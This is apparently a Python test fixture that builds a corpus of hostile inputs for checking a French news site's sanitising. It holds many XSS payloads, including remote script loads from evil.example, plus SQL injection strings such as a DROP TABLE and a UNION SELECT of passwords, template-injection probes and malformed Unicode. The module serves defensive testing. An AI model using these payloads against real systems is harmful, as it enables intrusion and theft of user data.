"""The hostile-input corpus: what a malicious or careless writer, reader or partner file may
send. Every case has a stable id (for test names and failure messages) and a family.

Payloads that try to run script set ``window.__pwned`` or call alert/confirm/prompt/eval, so
that the browser tests can tell whether anything ran.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    id: str
    family: str
    text: str

    @property
    def storable(self) -> bool:
        """Text a database can hold: PostgreSQL refuses NUL; nothing encodes a lone surrogate."""
        return "\x00" not in self.text and not any(0xD800 <= ord(c) <= 0xDFFF for c in self.text)


RUN = "window.__pwned=1;alert(1)"

SCRIPT_TAGS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script\n>{RUN}</script\n>",
    '<script src="https://evil.example/x.js"></script>',
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>script>{RUN}<</script>/script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'</script><script type="text/javascript">{RUN}</script>',
    f"<!--<script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<script>/*</script><script>*/{RUN}</script>",
    f'<script type="module">{RUN}</script>',
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
    f"<template><script>{RUN}</script></template>",
    f"<style></style><script>{RUN}</script>",
    f"<xmp><script>{RUN}</script></xmp>",
    f"<plaintext><script>{RUN}</script>",
]

EVENT_HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=x onerror\n={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<div onmouseover="{RUN}">survolez</div>',
    f'<a href="#" onclick="{RUN}">clic</a>',
    f"<iframe onload={RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button>Go</button></form>',
    f'<button formaction="javascript:{RUN}">Go</button>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    f"<div style=\"background:url('javascript:{RUN}')\">x</div>",
    '<div style="width: expression(alert(1))">x</div>',
    f"<style>@import 'javascript:{RUN}';</style>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f'" autofocus onfocus="{RUN}',
    f"<select onchange={RUN}><option>1</option></select>",
    f"<textarea onfocus={RUN} autofocus></textarea>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f'<table background="javascript:{RUN}"><tr><td>x</td></tr></table>',
    f'<a href="x" ping="https://evil.example/" onauxclick={RUN}>x</a>',
]

SVG_AND_MATHML = [
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x="20" y="20">x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}/>#x"/></svg>',
    f'<svg><set attributeName="onload" to="{RUN}"/></svg>',
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<math href="javascript:{RUN}">x</math>',
    f"<svg><style>a{{}}</style><img src=x onerror={RUN}></svg>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>',
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
]

# Schemes a link must never carry, in the spellings browsers accept.
SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{RUN}",
    f"&#0000106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"%6Aavascript:{RUN}",
    f"\x01javascript:{RUN}",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload={RUN}>",
    "livescript:alert(1)",
]


def _links() -> list[str]:
    forms = [
        "[lire la suite]({url})",
        "![photo]({url})",
        '[lien]({url} "titre")',
        "[ref][1]\n\n[1]: {url}",
        '<a href="{url}">lien brut</a>',
        '<img src="{url}">',
    ]
    return [form.format(url=url) for url in SCHEMES for form in forms]


ENTITY_TRICKS = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3C;script&#x3E;{RUN}&#x3C;/script&#x3E;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C%2Fscript%3E",
    f"&LT;script&GT;{RUN}&LT;/script&GT;",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"＜script＞{RUN}＜/script＞",
    f"\u02c2script\u02c3{RUN}",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    f'<a href="javas&#99;ript:{RUN}">x</a>',
    f"[x](javas&#99;ript:{RUN})",
    f"`<script>{RUN}</script>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f'<https://example.org/"><script>{RUN}</script>>',
    f"[<script>{RUN}</script>](https://example.org/)",
    f'[x](https://example.org/" onmouseover="{RUN})',
    f"[x](<javascript:{RUN}>)",
    f"<javascript:{RUN}>",
    f"**<img src=x onerror={RUN}>**",
    f"> <iframe src=javascript:{RUN}>",
    f"| a |\n|---|\n| <script>{RUN}</script> |",
    f"~~<svg onload={RUN}>~~",
]

TEMPLATE_AND_JSON = [
    "{{ 7|add:7 }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    '{"@context": "https://evil.example"}',
    '"}, {"@type": "Evil", "x": "',
    f'</script><script>{RUN}</script><script type="application/ld+json">',
    "\u2028\u2029 séparateurs de ligne",
    "<!-- commentaire non fermé",
    "]]>",
    "\\",
    '\\\\"',
    '"',
    "'",
]

SQL_LIKE = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE articles_article; --",
    "1; SELECT pg_sleep(5)",
    "' UNION SELECT password FROM auth_user --",
    "%' AND 1=1 --",
    "%",
    "_",
    "%%",
    "\\'",
    "' || (SELECT version()) || '",
    "admin'--",
    "1' AND SLEEP(5)#",
    "!(élection & Musk) | Bezos:*",
    '"guillemet non fermé',
    "-",
    "OR",
    "<->",
    "a & | ! ( ) : *",
    "\\x00",
]

UNICODE = [
    "\u202eegassem\u202c inversé",
    "\u2066isolé\u2069 \u2067droite\u2069",
    "fichier\u202etxt.exe",
    "zéro\u200blargeur\u200d\u200c",
    "\ufeffBOM au début",
    "e\u0301 combiné (é)",
    "Z\u0335\u0321\u0322a\u0337\u0334l\u0336g\u0338o\u0337",
    "👩‍👩‍👧‍👦 famille 🇫🇷",
    "𝕏 𝔐𝔲𝔰𝔨 mathématiques",
    "ｆｕｌｌ ｗｉｄｔｈ",
    "Ρаураl homoglyphes",
    "espace\u00a0insécable\u202ffine",
    "ligne\u2028séparée",
    "NEL\u0085suivant",
    "عربي مع English مختلط",
    "中文标题 日本語 한국어",
    "\U0010ffff dernier point de code",
    "\ufffd caractère de remplacement",
    "\u00ad trait d'union conditionnel",
]

CONTROL_AND_ENCODING = [
    "NUL au milieu\x00du texte",
    "\x00",
    "tabulation verticale\x0bcollée depuis Word",
    "saut de page\x0cici",
    "échappement ANSI \x1b[31mrouge\x1b[0m",
    "retour chariot\rseul",
    "DEL\x7fcaractère",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "Ã©lection (mojibake)",
    "Ã\x83Â©lection (double mojibake)",
    "surrogate seul \ud800",
    "\udfff",
    "paire inversée \udc00\ud800",
]


def _oversized() -> list[str]:
    return [
        "A" * 300,  # over the headline's 250
        "é" * 1001,  # over the standfirst, in two-byte characters
        "mot " * 20_000,  # a 80,000-character body
        "x" * 5_000,  # a search query 25 times too long
        ">" * 5_000 + " citation",  # nested block quotes
        "[" * 5_000 + "x" + "]" * 5_000,  # pathological Markdown brackets
        "*" * 20_000,  # emphasis markers
        "- " * 3_000 + "liste",  # nested lists
        "<div>" * 2_000 + "profond",  # deeply nested raw HTML
        "\n" * 10_000 + "fin",
        "🙂" * 300,  # astral characters: 300 code points, 1,200 bytes
        f"<a href='https://example.org/{'x' * 3000}'>long</a>",
    ]


def cases() -> list[Case]:
    families = {
        "script": SCRIPT_TAGS,
        "handler": EVENT_HANDLERS,
        "svg": SVG_AND_MATHML,
        "link": _links(),
        "entity": ENTITY_TRICKS,
        "template": TEMPLATE_AND_JSON,
        "sql": SQL_LIKE,
        "unicode": UNICODE,
        "control": CONTROL_AND_ENCODING,
        "oversized": _oversized(),
    }
    return [
        Case(id=f"{family}-{number:03d}", family=family, text=text)
        for family, texts in families.items()
        for number, text in enumerate(texts)
    ]


CASES = cases()
BY_ID = {case.id: case for case in CASES}
